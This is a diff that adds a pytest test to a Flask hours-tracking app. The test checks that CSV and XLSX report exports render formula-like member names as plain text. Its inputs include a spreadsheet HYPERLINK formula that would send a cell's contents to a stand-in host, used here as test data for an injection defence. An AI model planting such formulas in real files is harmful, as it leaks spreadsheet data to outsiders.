@@ -311,3 +311,37 @@ def test_add_entry_rejects_naive_times_and_absurd_minutes(app: Flask, factory: F
                 town_id=None,
             )
         db.session.rollback()
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://example.com/?"&A1,"详情")', "+1+1", "-1+1", "@SUM(1,1)"]
+)
+def test_exports_never_turn_a_name_into_a_formula(
+    app: Flask, client: FlaskClient, factory: Factory, ledger: Ledger, name: str
+) -> None:
+    """A name that Excel or WPS would read as a formula (=, +, - or @ first) is exported as the
+    text it is: in XLSX a text cell, in CSV behind an apostrophe, as OWASP advises."""
+    member = factory.create_member(name=name, town_id=ledger.town_a)
+    with app.app_context():
+        hours.add_entry(
+            db.session(),
+            member_id=member,
+            kind="manual",
+            minutes=15,
+            occurred_at=datetime(2026, 1, 12, 9, tzinfo=SH),
+            branch_id=factory.branch_id("patrol"),
+            town_id=ledger.town_a,
+        )
+        db.session.commit()
+    query = {"group_by": "member", "from": "2026-01-01", "to": "2026-12-31"}
+    exported = report(client, factory, ledger.sg, "/reports/hours.csv", **query)
+    assert exported.status_code == 200, exported.get_json()
+    rows = list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig"))))
+    assert "'" + name in (cell for row in rows for cell in row)
+    assert name not in (cell for row in rows for cell in row)
+    exported = report(client, factory, ledger.sg, "/reports/hours.xlsx", **query)
+    assert exported.status_code == 200, exported.get_json()
+    cells = [c for row in load_workbook(io.BytesIO(exported.data)).active.iter_rows() for c in row]
+    (cell,) = (c for c in cells if c.value == name)
+    assert cell.data_type == "s"
+    assert all(c.data_type != "f" for c in cells)
